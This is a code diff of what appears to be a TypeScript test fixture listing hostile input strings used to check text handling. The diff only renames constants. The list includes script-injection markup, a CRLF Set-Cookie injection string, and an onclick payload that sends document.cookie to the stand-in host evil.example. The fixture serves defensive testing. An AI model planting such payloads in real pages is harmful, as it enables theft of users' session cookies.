@@ -1,7 +1,7 @@
 import { TEXT_MAX_LENGTH } from "../../src/core/limits.ts";
 
 /** What HTML, scripts and styles would run: each sets `__ran` or asks another host if somebody lets it. */
-const ASK = "fetch('https://evil.example/'+document.cookie)";
+const EXFILTRATE = "fetch('https://evil.example/'+document.cookie)";
 
 const MARKUP = [
   "<script>__ran=1</script>",
@@ -42,7 +42,7 @@ const MARKUP = [
   "<![CDATA[ x ]]>",
   "&lt;b&gt;&amp;&nbsp;&#x3C;script&#x3E;",
   "<b>bold</b>",
-  `<a href="x" onclick="${ASK}">here</a>`,
+  `<a href="x" onclick="${EXFILTRATE}">here</a>`,
 ];
 
 const ADDRESSES = [
@@ -79,7 +79,7 @@ const TEMPLATES = [
   "a\r\nSet-Cookie: x=1\r\n\r\n<script>__ran=1</script>",
 ];
 
-const NAMES_OF_NOTHING = [
+const LITERALS = [
   "null",
   "undefined",
   "NaN",
@@ -124,7 +124,7 @@ const SHAPES = [
   "漢字".repeat(300),
 ];
 
-const HARDLY_THERE = [
+const INVISIBLE = [
   "\u200B",
   "\u2060\u2060",
   "\u00AD",
@@ -143,8 +143,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
   ...MARKUP,
   ...ADDRESSES,
   ...TEMPLATES,
-  ...NAMES_OF_NOTHING,
+  ...LITERALS,
   ...DIRECTIONS,
   ...SHAPES,
-  ...HARDLY_THERE,
+  ...INVISIBLE,
 ];
